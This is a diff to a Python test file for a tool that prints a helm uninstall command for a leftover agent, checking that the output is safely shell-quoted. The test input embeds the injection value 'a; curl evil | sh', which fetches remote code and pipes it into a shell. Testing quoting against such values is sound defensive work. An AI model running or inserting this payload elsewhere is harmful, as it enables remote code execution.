@@ -60,7 +60,7 @@ async def test_an_annotation_that_is_no_name_of_a_release_is_not_given_to_helm(l
 
 async def test_the_command_for_a_remaining_agent_can_be_pasted_into_a_shell(leave_with):
     leave, _ = leave_with(Server("a; curl evil | sh", from_join=False))
-    [remark] = await leave.follow_up()
+    [remark] = await leave.follow_up(dry_run=False)
     command = remark.partition("To remove it: ")[2]
     words = ["helm", "uninstall", "a; curl evil | sh", "--namespace", "quay", "--kube-context", "a member"]
     assert shlex.split(command) == words
